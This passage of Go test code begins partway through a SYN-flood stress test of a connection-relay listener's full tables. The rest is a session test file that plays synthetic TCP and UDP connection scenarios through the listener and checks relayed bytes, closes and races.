			if infra != nil {
				t.Fatalf("infra: %v", infra)
			}
			if e2 != nil {
				return e2, took
			}
		}
		if strings.Contains(e1.Error(), "panic:") || strings.Contains(e1.Error(), "fatal error:") {
			return fmt.Errorf("%v [the same history passed on %d more listener(s): whether it fails depends on how the handlers' return interleaves with the receive loop]", e1, again), took
		}
		r.Flaky(fmt.Sprintf("C02 flood meeting connections failed once and passed on re-run: %v", e1))
		return nil, took
	}
	if vlib.ReplayCase("TestFloodMeetsConnections", &rc) {
		if e, _ := check(rc, 3); e != nil {
			r.Violation(t, "TestFloodMeetsConnections", rc, e.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	r.Rule(ruleText)
	r.Rule(fullTableRule)
	si, sn := r.Shard()
	cases := []fullTable{
		{Tables: "arp", Conns: 300, Dport: 80, KeepaliveS: 15, Fill: 65535 - 300, SynsAfter: []int{1, 2, 3, 0, 5}, Note: "table exactly full"},
	}
	if r.Thorough() {
		cases = append(cases,
			fullTable{Tables: "arp", Conns: 600, Dport: 9200, KeepaliveS: 15, Fill: 65535 - 600 + 4000, SynsAfter: []int{1}, Note: "more attempts than slots"},
			fullTable{Tables: "arp", Conns: 100, Dport: 8080, KeepaliveS: 0, Fill: 65535 - 100, SynsAfter: []int{2, 1}, Note: "handlers wait in their first read"},
			fullTable{Tables: "gateway", Conns: 300, Dport: 23, KeepaliveS: 0, Fill: 65535 - 300, SynsAfter: []int{1, 2, 3}, Note: "table exactly full"},
			fullTable{Tables: "arp", Conns: 300, Dport: 80, KeepaliveS: 15, Fill: 65535 - 300 - 2000, SynsAfter: []int{1, 2, 3, 0, 5}, Note: "table not full"},
		)
	}
	for i, c := range cases {
		if (i+4)%sn != si { // the SYN floods and the fixed connection floods occupy the other shards
			continue
		}
		c := c
		r.Case(fmt.Sprintf("flood-meets-connections/dport=%d/%s", c.Dport, c.Note), vlib.JSON(c), func() interface{} { return c })
		e, took := check(c, 1)
		r.Note("SYN flood meeting established connections (%s): %s", c.Note, took)
		if e != nil {
			r.Violation(t, "TestFloodMeetsConnections", c, e.Error())
			return
		}
	}
}
