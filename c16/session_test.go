package c16

import (
	"bytes"
	"fmt"
	"net"
	"sort"
	"strings"
	"sync/atomic"
	"time"
)

// closeErrs counts service-side Close calls that returned an error or panicked (shown
// as a note, not judged).
var closeErrs atomic.Int64

// both-ends-close windows played: how many, how many of them with the listener's sender
// stuck (a service write that did not return), and the blocks written to get there
var raceWindows, raceStalled, raceBlocks atomic.Int64

// ---------------------------------------------------------------- case description

type connSpec struct {
	V6       bool   `json:"v6"`
	LOct     int    `json:"lip"`           // local address: index into the octet pool
	LPort    int    `json:"lport"`         // index into tcpPorts
	ROct     int    `json:"rip"`           // remote address: index into the octet pool
	RPort    int    `json:"rport"`         // remote port 0..65535
	Mapped   bool   `json:"mapped"`        // IPv4 addresses travel in their 16-byte (IPv4-mapped) form
	ReadBuf  int    `json:"readbuf"`       // size of the service's read buffer
	DelayMs  int    `json:"delay_ms"`      // service sleeps before its first read
	Greeting int    `json:"greeting"`      // bytes the service writes at accept
	Reuse    bool   `json:"reuse"`         // the service writes from one buffer that it overwrites as soon as Write returns
	SameAs   int    `json:"same_as"`       // -1, or the earlier connection whose addresses this one re-uses
	Rel      string `json:"rel,omitempty"` // how the generator derived the addresses (label only)
}

type step struct {
	Op      string `json:"op"` // hello data eof swrite sclose race udp unk-data unk-eof ping sync
	C       int    `json:"c"`
	Y       int    `json:"y,omitempty"` // race: the other open connection, whose service's writes occupy the session's sender
	N       int    `json:"n,omitempty"`
	Variant int    `json:"variant,omitempty"` // unk-*: how the id differs from connection C's
	V6      bool   `json:"v6,omitempty"`      // udp
	LPort   int    `json:"lport,omitempty"`   // udp: index into udpPorts
	RPort   int    `json:"rport,omitempty"`   // udp
	Replies []int  `json:"replies,omitempty"` // udp: sizes of the datagrams the service answers with
	Reuse   bool   `json:"reuse,omitempty"`   // udp: the service answers from one reused buffer
}

type sessCase struct {
	Conns  []connSpec `json:"conns"`
	Steps  []step     `json:"steps"`
	Seg    string     `json:"seg"`              // frame3 | frame1 | chunks
	Chunks []int      `json:"chunks,omitempty"` // record sizes, cycled (seg=chunks)
	// Abort: the agent disconnects by closing its socket at once (unread input makes
	// that a TCP reset, which may destroy what it sent last); otherwise it shuts down
	// its sending side and waits for the listener to close.
	Abort bool `json:"abort,omitempty"`
}

// octets is the pool of first octets (IPv4) / second bytes (IPv6) of every address in a
// session, local or remote. The rest of an address is the case's serial number, which
// ties what the services see to the case. The pool is small and its members are
// decimal prefixes / suffixes of each other (10, 110, 210, 1, 11, 21, 31, 81), like the
// service ports (2, 22, 220, 1, 11, 44, 443, 80, 808, 8080): the textual forms of the
// addresses of simultaneously open connections then share prefixes and suffixes, and
// concatenations such as "10.0.0.1:2"+"210.0.0.5:40" / "10.0.0.1:22"+"10.0.0.5:40"
// coincide.
var octets = []int{10, 110, 210, 1, 11, 21, 31, 81}

// shifts: hi is lo with the decimal digit d put in front.
var shifts = []struct{ d, hi, lo int }{{1, 110, 10}, {2, 210, 10}, {1, 11, 1}, {2, 21, 1}, {3, 31, 1}, {8, 81, 1}}

func octIndex(v int) int {
	for i, o := range octets {
		if o == v {
			return i
		}
	}
	return 0
}

func portIndex(v int) int {
	for i, p := range tcpPorts {
		if p == v {
			return i
		}
	}
	return -1
}

func mod(i, n int) int { return ((i % n) + n) % n }

// caseIP builds an address of the case: first is the distinguishing byte.
func caseIP(v6 bool, first int, serial int, mapped bool) []byte {
	if v6 {
		return []byte{0xfd, byte(first), 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, byte(serial >> 24), byte(serial >> 16), byte(serial >> 8), byte(serial)}
	}
	ip := []byte{byte(first), byte(serial >> 16), byte(serial >> 8), byte(serial)}
	if mapped {
		return append([]byte{0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff}, ip...)
	}
	return ip
}

// serialOf recovers the case serial from an address string as a service sees it.
func serialOf(hostport string) string {
	ip := net.ParseIP(hostOf(hostport))
	if ip == nil {
		return "?" + hostport
	}
	if v4 := ip.To4(); v4 != nil {
		return fmt.Sprint(int(v4[1])<<16 | int(v4[2])<<8 | int(v4[3]))
	}
	return fmt.Sprint(int(ip[12])<<24 | int(ip[13])<<16 | int(ip[14])<<8 | int(ip[15]))
}

func (c connSpec) addrs(serial int) (addr, addr) {
	lo, ro := octets[mod(c.LOct, len(octets))], octets[mod(c.ROct, len(octets))]
	mapped := c.Mapped && !c.V6
	return addr{IP: caseIP(c.V6, lo, serial, mapped), Port: tcpPorts[mod(c.LPort, len(tcpPorts))]},
		addr{IP: caseIP(c.V6, ro, serial, mapped), Port: mod(c.RPort, 65536)}
}

// stream is the byte stream of one direction of one connection: position-dependent and
// different per connection, so that lost, duplicated, reordered or misdelivered bytes
// all change it.
func stream(tag, off, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		p := off + i
		b[i] = byte(p*13+tag*59+7) ^ byte(p>>8)*5 ^ byte(p>>16)
	}
	return b
}

// ---------------------------------------------------------------- running one case

type connState struct {
	l, r      addr
	key       string
	root      int
	announced bool
	open      bool
	sclosed   bool        // the service has closed the connection on its own
	agentEOF  bool        // ... and the agent has sent its end-of-stream for it since
	inv       *invocation // resolved for single-member groups
	expect    []byte      // bytes the service must read
	back      []byte      // bytes the agent must get back
	greeting  []byte
	swOff     int
	planKey   string
}

type groupState struct {
	members   []int // announced incarnations in hello order
	off       int
	msgs      [][]byte
	ambiguous bool // two incarnations were open at the same time
}

// What a both-ends-close window costs: the service of the other connection writes
// blocks of fillBlock bytes until a write no longer returns within the stall time (the
// agent has stopped reading, so this is when the socket buffers are full and the
// session's sender is stuck); at most maxFill blocks. The settle time is what the two
// closers get to reach the listener before the agent reads again. None of these times
// decides a verdict: when they are too short the window just does not open.
const (
	fillBlock = 60000
	maxFill   = 400
)

const (
	// bound of every wait in a patient play (measured in slices; a wait that fails is
	// only a verdict in a patient play) and in the first, searching play of a case
	waitPatient = 15 * time.Second
	waitSearch  = 3 * time.Second
	waitSlice   = 250 * time.Millisecond
)

type failure struct {
	kind string
	msg  string
}

func (f *failure) Error() string { return f.msg }

func failf(kind, format string, a ...interface{}) *failure {
	return &failure{kind: kind, msg: fmt.Sprintf(format, a...)}
}

func trunc(b []byte) string {
	if len(b) > 24 {
		return fmt.Sprintf("%x...(%d bytes)", b[:24], len(b))
	}
	return fmt.Sprintf("%x", b)
}

func diffAt(a, b []byte) int {
	i := 0
	for i < len(a) && i < len(b) && a[i] == b[i] {
		i++
	}
	return i
}

// subseqConcat reports whether data is the concatenation of a subsequence of msgs.
func subseqConcat(data []byte, msgs [][]byte) bool {
	reach := map[int]bool{0: true}
	for _, m := range msgs {
		if len(m) == 0 {
			continue
		}
		var add []int
		for p := range reach {
			if p+len(m) <= len(data) && bytes.Equal(data[p:p+len(m)], m) {
				add = append(add, p+len(m))
			}
		}
		for _, p := range add {
			reach[p] = true
		}
	}
	return reach[len(data)]
}

// runSession plays the case against the real listener once. infra problems are returned
// as errors whose text starts with "infra:"; property failures as *failure.
func runSession(c sessCase, patient bool) (result error) {
	bound := waitSearch
	if patient {
		bound = waitPatient
	}
	f, err := getFixture()
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	serial := nextSerial()
	owner := fmt.Sprint(serial)
	var planKeys []string
	defer func() { world.forget(owner, planKeys) }()

	conns := make([]*connState, len(c.Conns))
	groups := map[int]*groupState{}
	byKey := map[string]int{} // key -> root
	for i, cs := range c.Conns {
		st := &connState{root: i}
		if cs.SameAs >= 0 && cs.SameAs < i {
			st.root = conns[cs.SameAs].root
			// the same addresses, possibly in the other wire form (4-byte / IPv4-mapped):
			// their textual form, which identifies the connection, is the same
			rs := c.Conns[st.root]
			rs.Mapped = cs.Mapped
			st.l, st.r = rs.addrs(serial)
			st.r.Port = conns[st.root].r.Port
		} else {
			st.l, st.r = cs.addrs(serial)
			// distinct connections need distinct ids: move the remote port until free
			for {
				if _, clash := byKey[st.l.String()+"|"+st.r.String()]; !clash {
					break
				}
				st.r.Port = (st.r.Port + 1) % 65536
			}
		}
		st.key = st.l.String() + "|" + st.r.String()
		byKey[st.key] = st.root
		if groups[st.root] == nil {
			groups[st.root] = &groupState{}
		}
		conns[i] = st
	}
	groupSize := map[int]int{}
	for _, st := range conns {
		groupSize[st.root]++
	}
	single := func(i int) bool { return groupSize[conns[i].root] == 1 }
	world.mu.Lock()
	for i, cs := range c.Conns {
		st := conns[i]
		p := plan{readBuf: cs.ReadBuf, delay: time.Duration(cs.DelayMs) * time.Millisecond, reuse: cs.Reuse}
		if single(i) && cs.Greeting > 0 {
			p.greeting = stream(100+i, 0, cs.Greeting)
			st.greeting = p.greeting
			st.swOff = cs.Greeting
		}
		st.planKey = connKey("tcp", st.l.String(), st.r.String())
		if cs.SameAs < 0 || cs.SameAs >= i {
			world.plans[st.planKey] = p
			planKeys = append(planKeys, st.planKey)
		}
	}
	type udpMsg struct {
		l, r    addr
		payload []byte
		replies [][]byte
		key     string
	}
	var udps []*udpMsg
	udpByStep := map[int]*udpMsg{}
	udpKeys := map[string]bool{}
	for si, s := range c.Steps {
		if s.Op != "udp" {
			continue
		}
		m := &udpMsg{}
		lp := udpPorts[s.LPort%len(udpPorts)]
		if s.V6 {
			m.l, m.r = addr{UDP: true, IP: caseIP(true, octets[0], serial, false), Port: lp}, addr{UDP: true, IP: caseIP(true, octets[1], serial, false), Port: s.RPort}
		} else {
			m.l, m.r = addr{UDP: true, IP: caseIP(false, octets[0], serial, false), Port: lp}, addr{UDP: true, IP: caseIP(false, octets[1], serial, false), Port: s.RPort}
		}
		for udpKeys[m.l.String()+"|"+m.r.String()] {
			m.r.Port = (m.r.Port + 1) % 65536
		}
		udpKeys[m.l.String()+"|"+m.r.String()] = true
		m.payload = stream(200+si, 0, s.N)
		for ri, n := range s.Replies {
			m.replies = append(m.replies, stream(300+si*4+ri, 0, n))
		}
		m.key = connKey("udp", m.l.String(), m.r.String())
		world.plans[m.key] = plan{replies: m.replies, reuse: s.Reuse}
		planKeys = append(planKeys, m.key)
		udps = append(udps, m)
		udpByStep[si] = m
	}
	world.mu.Unlock()

	hasRace := false
	for _, s := range c.Steps {
		hasRace = hasRace || s.Op == "race"
	}
	a, err := dialAgentOpt(f, hasRace)
	if err != nil {
		return fmt.Errorf("infra: dial agent listener: %v", err)
	}
	defer a.c.Close()
	a.seg, a.chunks = c.Seg, c.Chunks
	if a.seg == "chunks" && len(a.chunks) == 0 {
		a.seg = "frame1"
	}
	// session handshake, written the way the real agent writes it
	hs := encodeFrame(frame{Type: tHandshake, Version: 1, Strs: []string{"1.0-verif", "abc1234", "abc1234def5678", fmt.Sprintf("token-%d", serial)}})
	a.write(hs[:1])
	a.write(hs[1:3])
	a.write(hs[3:])
	a.c.SetReadDeadline(time.Now().Add(20 * time.Second))
	resp, err := readFrame(saneReader{a.c})
	if err != nil {
		return failf("handshake", "no readable handshake response from the listener: %v", err)
	}
	a.c.SetReadDeadline(time.Time{})
	if resp.Type != tHSResp {
		return failf("handshake", "listener answered the handshake with frame type %d", resp.Type)
	}
	var gotPorts, wantPorts []string
	for _, x := range resp.Addrs {
		gotPorts = append(gotPorts, fmt.Sprintf("%v/%d", x.UDP, x.Port))
	}
	for _, p := range tcpPorts {
		wantPorts = append(wantPorts, fmt.Sprintf("false/%d", p))
	}
	for _, p := range udpPorts {
		wantPorts = append(wantPorts, fmt.Sprintf("true/%d", p))
	}
	sort.Strings(gotPorts)
	sort.Strings(wantPorts)
	if strings.Join(gotPorts, ",") != strings.Join(wantPorts, ",") {
		return failf("handshake", "handshake response lists ports %v, configured are %v", gotPorts, wantPorts)
	}
	go a.readLoop()

	ownerInvs := func() []*invocation { // world.mu held
		return world.invs[owner]
	}
	findInv := func(key string) []*invocation { // world.mu held
		var out []*invocation
		for _, inv := range ownerInvs() {
			if connKey(inv.network, inv.local, inv.remote) == key {
				out = append(out, inv)
			}
		}
		return out
	}
	// twice: a bounded wait, measured again before it counts. When the listener has
	// already ended the session (the agent's read side is closed) nothing more can
	// arrive through it and the second measurement is shortened.
	dead := func() bool {
		a.mu.Lock()
		defer a.mu.Unlock()
		return a.rdone
	}
	disconnected := false
	defer a.setPaused(false) // never leave the reader parked
	defer func() {
		// say so when the failure was seen on a session the listener had already ended
		if f, ok := result.(*failure); ok && !disconnected && dead() {
			result = &failure{kind: f.kind, msg: f.msg + " [by then the listener had ended the whole agent session, although the agent had neither disconnected nor stopped sending]"}
		}
	}()
	stallT, settleT := 200*time.Millisecond, 100*time.Millisecond
	if patient {
		stallT, settleT = 600*time.Millisecond, 400*time.Millisecond
	}
	twice := func(wait func(d time.Duration) bool) bool {
		for spent := time.Duration(0); spent < bound; spent += waitSlice {
			if wait(waitSlice) {
				return true
			}
			if !disconnected && dead() && spent >= 3*time.Second {
				return wait(waitSlice)
			}
		}
		return false
	}
	// surfaced waits until the (single-member group) connection i has been handed to a service
	surfaced := func(i int) error {
		st := conns[i]
		if st.inv != nil {
			return nil
		}
		ok := twice(func(d time.Duration) bool {
			return world.waitFor(d, func() bool { return len(findInv(st.planKey)) > 0 })
		})
		if !ok {
			return failf("not-surfaced", "connection %d (%s -> %s) was announced but no service was handed a connection with these addresses within %v", i, st.r, st.l, bound)
		}
		world.mu.Lock()
		st.inv = findInv(st.planKey)[0]
		world.mu.Unlock()
		return nil
	}
	writesDone := func(i int) error {
		st := conns[i]
		if st.inv == nil {
			return nil
		}
		ok := twice(func(d time.Duration) bool {
			return world.waitFor(d, func() bool { return st.inv.pending == 0 })
		})
		if !ok {
			return failf("write-stuck", "a service write on connection %d did not return within %v", i, bound)
		}
		return nil
	}
	// backBytes collects, per connection id, the bytes of the data frames the agent got
	backBytes := func() (map[string][]byte, map[string][]byte) { // a.mu held
		tcp := map[string][]byte{}
		udp := map[string][]byte{}
		for _, fr := range a.frames {
			switch fr.Type {
			case tRWTCP:
				k := connKey("tcp", fr.L.String(), fr.R.String())
				tcp[k] = append(tcp[k], fr.Payload...)
			case tRWUDP:
				k := connKey("udp", fr.L.String(), fr.R.String())
				udp[k] = append(udp[k], fr.Payload...)
			}
		}
		return tcp, udp
	}
	// foreign: a data frame the agent received that is tagged with addresses of no
	// connection / datagram of this session (a.mu held)
	foreign := func() string {
		for _, fr := range a.frames {
			var k string
			switch fr.Type {
			case tRWTCP:
				k = connKey("tcp", fr.L.String(), fr.R.String())
			case tRWUDP:
				k = connKey("udp", fr.L.String(), fr.R.String())
			default:
				continue
			}
			known := false
			for _, st := range conns {
				known = known || (fr.Type == tRWTCP && st.planKey == k)
			}
			for _, m := range udps {
				known = known || (fr.Type == tRWUDP && m.key == k)
			}
			if !known {
				return k
			}
		}
		return ""
	}
	backArrived := func() error {
		bad := ""
		ok := twice(func(d time.Duration) bool {
			return a.waitFor(d, func() bool {
				if a.rdone {
					return true
				}
				if bad = foreign(); bad != "" {
					return true
				}
				tcp, _ := backBytes()
				for _, st := range conns {
					if len(tcp[st.planKey]) < len(st.back) {
						return false
					}
				}
				return true
			})
		})
		if bad != "" {
			return failf("back-foreign", "the agent received a data frame tagged %s, which is no connection of this session", bad)
		}
		if !ok {
			a.mu.Lock()
			tcp, _ := backBytes()
			a.mu.Unlock()
			for i, st := range conns {
				if len(tcp[st.planKey]) < len(st.back) {
					return failf("back-missing", "the service wrote %d bytes on connection %d, the agent received only %d of them within %v", len(st.back), i, len(tcp[st.planKey]), bound)
				}
			}
		}
		return nil
	}
	notEndedEarly := func(i int, when string) error {
		st := conns[i]
		if !single(i) || !st.open {
			return nil
		}
		world.mu.Lock()
		defer world.mu.Unlock()
		for _, inv := range findInv(st.planKey) {
			if inv.done {
				return failf("ended-early", "connection %d was ended on the service side (read error %q after %d bytes) %s, although neither its end-of-stream nor a disconnect had been sent", i, inv.err, len(inv.data), when)
			}
		}
		return nil
	}

	for si, s := range c.Steps {
		if s.C < 0 || s.C >= len(conns) {
			if s.Op != "udp" && s.Op != "ping" && s.Op != "sync" {
				continue
			}
		}
		switch s.Op {
		case "hello":
			st := conns[s.C]
			if st.announced {
				continue
			}
			g := groups[st.root]
			st.announced, st.open = true, true
			st.back = append(st.back, st.greeting...) // the service writes it at accept
			g.members = append(g.members, s.C)
			nopen := 0
			for _, m := range g.members {
				if conns[m].open {
					nopen++
				}
			}
			if nopen > 1 {
				g.ambiguous = true
			}
			a.send(frame{Type: tHello, L: st.l, R: st.r})
		case "data":
			st := conns[s.C]
			g := groups[st.root]
			payload := stream(st.root, g.off, s.N)
			g.off += s.N
			var open []int
			for _, m := range g.members {
				if conns[m].open {
					open = append(open, m)
				}
			}
			if len(g.members) >= 1 {
				g.msgs = append(g.msgs, payload) // only consulted for ambiguous (duplicate) ids
			}
			if len(open) == 1 {
				conns[open[0]].expect = append(conns[open[0]].expect, payload...)
			} else if len(open) == 0 && single(s.C) && st.sclosed && !st.agentEOF {
				// the service is closing this connection on its own, the agent has not
				// ended it: when the close takes effect relative to this message is not
				// determined, so the service may still read these bytes (a prefix of
				// everything sent until the agent's end-of-stream is what is demanded)
				st.expect = append(st.expect, payload...)
			}
			a.send(frame{Type: tRWTCP, L: st.l, R: st.r, Payload: payload})
		case "eof":
			st := conns[s.C]
			g := groups[st.root]
			var open []int
			for _, m := range g.members {
				if conns[m].open {
					open = append(open, m)
				}
			}
			if len(open) == 1 {
				o := open[0]
				if err := writesDone(o); err != nil {
					return err
				}
				if err := notEndedEarly(o, fmt.Sprintf("before step %d", si)); err != nil {
					return err
				}
				conns[o].open = false
			} else if len(open) > 1 {
				// which of two connections with the same id ends is not determined by the
				// statement; the group is judged by the weak oracle from here on
				g.ambiguous = true
				for _, o := range open {
					conns[o].open = false
				}
			}
			if st.sclosed {
				st.agentEOF = true
			}
			a.send(frame{Type: tEOF, L: st.l, R: st.r})
		case "swrite":
			st := conns[s.C]
			if !single(s.C) || !st.open {
				continue
			}
			a.flush()
			if err := surfaced(s.C); err != nil {
				return err
			}
			b := stream(100+s.C, st.swOff, s.N)
			st.swOff += s.N
			st.back = append(st.back, b...)
			st.inv.queueWrite(b)
		case "sclose":
			// the service is done with its client and closes the connection itself; the
			// agent has not ended it. Everything the service wrote before goes out first.
			st := conns[s.C]
			if !single(s.C) || !st.open {
				continue
			}
			a.flush()
			if err := surfaced(s.C); err != nil {
				return err
			}
			if err := writesDone(s.C); err != nil {
				return err
			}
			if err := notEndedEarly(s.C, fmt.Sprintf("before step %d", si)); err != nil {
				return err
			}
			st.open, st.sclosed = false, true
			st.inv.queueClose()
		case "race":
			// Both ends close connection C at the same time: its service closes it while
			// the agent's end-of-stream for it is on its way / being handled. The agent is
			// slow (it stops reading) and the service of connection Y keeps writing, so
			// that whatever the listener has to tell the agent queues up and the two
			// closes overlap for as long as the agent stays away. Then the agent reads
			// again. Nothing in here waits for the listener while the agent is paused.
			if s.Y < 0 || s.Y >= len(conns) || s.Y == s.C {
				continue
			}
			sx, sy := conns[s.C], conns[s.Y]
			if !single(s.C) || !single(s.Y) || !sx.open || !sy.open {
				continue
			}
			a.flush()
			for _, i := range []int{s.C, s.Y} {
				if err := surfaced(i); err != nil {
					return err
				}
				if err := writesDone(i); err != nil {
					return err
				}
				if err := notEndedEarly(i, fmt.Sprintf("before step %d", si)); err != nil {
					return err
				}
			}
			a.setPaused(true)
			raceWindows.Add(1)
			for blocks := 0; blocks < maxFill; blocks++ {
				raceBlocks.Add(1)
				b := stream(100+s.Y, sy.swOff, fillBlock)
				sy.swOff += fillBlock
				sy.back = append(sy.back, b...)
				sy.inv.queueWrite(b)
				if !world.waitFor(stallT, func() bool { return sy.inv.pending == 0 }) {
					raceStalled.Add(1)
					break // this write is stuck behind the one the sender cannot get rid of
				}
			}
			sx.open, sx.sclosed, sx.agentEOF = false, true, true
			if s.Variant%2 == 0 {
				sx.inv.queueClose()
				time.Sleep(settleT)
				a.send(frame{Type: tEOF, L: sx.l, R: sx.r})
				a.flush()
			} else {
				a.send(frame{Type: tEOF, L: sx.l, R: sx.r})
				a.flush()
				time.Sleep(settleT)
				sx.inv.queueClose()
			}
			time.Sleep(settleT)
			a.setPaused(false)
		case "udp":
			m := udpByStep[si]
			a.send(frame{Type: tRWUDP, L: m.l, R: m.r, Payload: m.payload})
		case "unk-data", "unk-eof":
			st := conns[s.C]
			l, r := st.l, st.r
			switch s.Variant % 4 {
			case 0:
				l, r = r, l
			case 1:
				r.Port = (r.Port + 1) % 65536
			case 2:
				l.Port = tcpPorts[mod(c.Conns[st.root].LPort+1, len(tcpPorts))]
			case 3:
				r.IP = caseIP(c.Conns[st.root].V6, 99, serial, len(r.IP) == 16) // an address of this case that is nobody's
			}
			if _, clash := byKey[l.String()+"|"+r.String()]; clash {
				continue
			}
			if s.Op == "unk-data" {
				a.send(frame{Type: tRWTCP, L: l, R: r, Payload: stream(77, 0, s.N)})
			} else {
				a.send(frame{Type: tEOF, L: l, R: r})
			}
		case "ping":
			a.send(frame{Type: tPing})
		case "sync":
			a.flush()
			for i, st := range conns {
				if !single(i) || !st.open {
					continue
				}
				if err := surfaced(i); err != nil {
					return err
				}
				want := len(st.expect)
				stray := ""
				ok := twice(func(d time.Duration) bool {
					return world.waitFor(d, func() bool {
						// bytes that are not what was sent on a connection will not become right
						// by waiting
						for j, sj := range conns {
							if single(j) && sj.inv != nil && !bytes.HasPrefix(sj.expect, sj.inv.data) {
								at := diffAt(sj.inv.data, sj.expect)
								stray = fmt.Sprintf("connection %d (%s -> %s): the service read %d bytes, of which those from offset %d on (%s) are not what its data messages carried (%d bytes sent so far)", j, sj.r, sj.l, len(sj.inv.data), at, trunc(sj.inv.data[at:]), len(sj.expect))
								return true
							}
						}
						return len(st.inv.data) >= want || st.inv.done
					})
				})
				if stray != "" {
					return failf("bytes", "%s", stray)
				}
				if !ok {
					world.mu.Lock()
					got := len(st.inv.data)
					world.mu.Unlock()
					return failf("stalled", "connection %d is open and %d bytes were sent on it, but the service had read only %d of them %v later (step %d)", i, want, got, bound, si)
				}
				if err := writesDone(i); err != nil {
					return err
				}
			}
			if err := backArrived(); err != nil {
				return err
			}
		}
		if a.werr != nil {
			break
		}
	}
	// before the agent goes away: everything the services were asked to write must be
	// on its way (writes after the disconnect are outside the statement)
	a.flush()
	for i, cs := range c.Conns {
		st := conns[i]
		if single(i) && st.announced && (cs.Greeting > 0 || st.inv != nil) {
			if err := surfaced(i); err != nil {
				return err
			}
			if err := writesDone(i); err != nil {
				return err
			}
		}
	}
	if len(udps) > 0 {
		ok := twice(func(d time.Duration) bool {
			return world.waitFor(d, func() bool {
				for _, m := range udps {
					invs := findInv(m.key)
					if len(invs) == 0 || !invs[0].done {
						return false
					}
				}
				return true
			})
		})
		if !ok {
			return failf("udp-missing", "a relayed UDP datagram was not handed to (or not finished by) the service within %v", bound)
		}
		ok = twice(func(d time.Duration) bool {
			return a.waitFor(d, func() bool {
				if a.rdone {
					return true
				}
				_, udp := backBytes()
				for _, m := range udps {
					n := 0
					for _, rp := range m.replies {
						n += len(rp)
					}
					if len(udp[m.key]) < n {
						return false
					}
				}
				return true
			})
		})
		if !ok {
			return failf("udp-back-missing", "the replies a service wrote to a relayed UDP datagram did not reach the agent within %v", bound)
		}
	}
	if err := backArrived(); err != nil {
		return err
	}
	for i := range conns {
		if err := notEndedEarly(i, "before the agent disconnected"); err != nil {
			return err
		}
	}
	if a.werr != nil {
		return failf("session-broken", "the listener stopped accepting the agent's bytes mid-session: %v", a.werr)
	}
	a.mu.Lock()
	if a.rdone {
		err := a.rerr
		a.mu.Unlock()
		return failf("session-broken", "the listener's frame stream ended or became undecodable before the agent disconnected: %v", err)
	}
	a.mu.Unlock()
	want := map[string]int{}
	for _, st := range conns {
		if st.announced {
			want[st.planKey]++
		}
	}
	// agent disconnect
	if c.Abort {
		// what the listener has not read yet may be lost with the reset, so only what
		// is known to have been handled can be demanded afterwards: wait until every
		// announcement has been surfaced, then expect prefixes
		ok := twice(func(d time.Duration) bool {
			return world.waitFor(d, func() bool {
				for k, n := range want {
					if len(findInv(k)) < n {
						return false
					}
				}
				return true
			})
		})
		if !ok {
			return failf("not-surfaced", "an announced connection was not handed to a service within %v", bound)
		}
		disconnected = true
		a.c.Close()
	} else {
		disconnected = true
		a.tcp.CloseWrite()
	}

	// every announced connection must have been surfaced and must end now
	ok := twice(func(d time.Duration) bool {
		return world.waitFor(d, func() bool {
			for k, n := range want {
				invs := findInv(k)
				if len(invs) < n {
					return false
				}
				for _, inv := range invs {
					if !inv.done {
						return false
					}
				}
			}
			return true
		})
	})
	if !c.Abort {
		// the listener ends the session by closing the transport
		if !twice(func(d time.Duration) bool { return a.waitFor(d, func() bool { return a.rdone }) }) {
			return failf("session-not-ended", "the listener did not close the session within %v of the agent's orderly disconnect", bound)
		}
		a.c.Close()
	} else {
		a.waitFor(5*time.Second, func() bool { return a.rdone })
	}
	same := bytes.Equal
	if c.Abort {
		same = func(got, exp []byte) bool { return bytes.HasPrefix(exp, got) }
	}
	world.mu.Lock()
	defer world.mu.Unlock()
	if !ok {
		for i, st := range conns {
			if !st.announced {
				continue
			}
			invs := findInv(st.planKey)
			if len(invs) < want[st.planKey] {
				return failf("not-surfaced", "connection %d (%s -> %s) was announced but only %d of %d announcements with these addresses were handed to a service", i, st.r, st.l, len(invs), want[st.planKey])
			}
			for _, inv := range invs {
				if !inv.done {
					return failf("not-ended", "connection %d (%s -> %s) did not end on the service side within %v of its end-of-stream / the agent's disconnect (service has read %d bytes)", i, st.r, st.l, bound, len(inv.data))
				}
			}
		}
	}
	// no service may have seen addresses that were never announced
	for _, inv := range ownerInvs() {
		k := connKey(inv.network, inv.local, inv.remote)
		if inv.network == "udp" {
			known := false
			for _, m := range udps {
				known = known || m.key == k
			}
			if !known {
				return failf("foreign-conn", "a service was handed a datagram %s -> %s that the agent never relayed", inv.remote, inv.local)
			}
			continue
		}
		if want[k] == 0 {
			return failf("foreign-conn", "a service was handed a connection %s -> %s that the agent never announced", inv.remote, inv.local)
		}
	}
	for k, n := range want {
		if got := len(findInv(k)); got != n {
			return failf("surfaced-count", "addresses %s were announced %d time(s) but handed to services %d time(s)", k, n, got)
		}
	}
	// bytes per connection
	var roots []int
	for root := range groups {
		roots = append(roots, root)
	}
	sort.Ints(roots)
	for _, root := range roots {
		g := groups[root]
		if len(g.members) == 0 {
			continue
		}
		invs := findInv(conns[root].planKey)
		wantSvc := fmt.Sprintf("t%d", conns[root].l.Port)
		for _, inv := range invs {
			if inv.svc != wantSvc {
				return failf("wrong-service", "connection to local port %d was handed to service %s", conns[root].l.Port, inv.svc)
			}
			if inv.err != "" {
				return failf("read-error", "connection %s -> %s ended with read error %q instead of end-of-stream", inv.remote, inv.local, inv.err)
			}
			if inv.werr != "" {
				return failf("write-error", "service write on connection %s -> %s failed: %s", inv.remote, inv.local, inv.werr)
			}
			if inv.cerr != "" {
				closeErrs.Add(1) // the statement is about relaying, not about what Close returns
			}
		}
		if g.ambiguous {
			for _, inv := range invs {
				if !subseqConcat(inv.data, g.msgs) {
					return failf("bytes", "duplicate id %s: one of the connections read %d bytes %s that are not a concatenation of data messages sent for this id", conns[root].key, len(inv.data), trunc(inv.data))
				}
			}
			continue
		}
		// match incarnations to invocations (service start order is not the hello order)
		var exp [][]byte
		for _, m := range g.members {
			exp = append(exp, conns[m].expect)
		}
		cmp := same
		if len(g.members) == 1 && conns[g.members[0]].sclosed {
			// the service closed the connection itself: it has read what had arrived by
			// then, which is some prefix of what was sent while it was open
			cmp = func(got, exp []byte) bool { return bytes.HasPrefix(exp, got) }
		}
		if !matchPerm(exp, invs, cmp) {
			if len(g.members) == 1 && len(invs) == 1 {
				m := g.members[0]
				got, exp0 := invs[0].data, exp[0]
				d := diffAt(got, exp0)
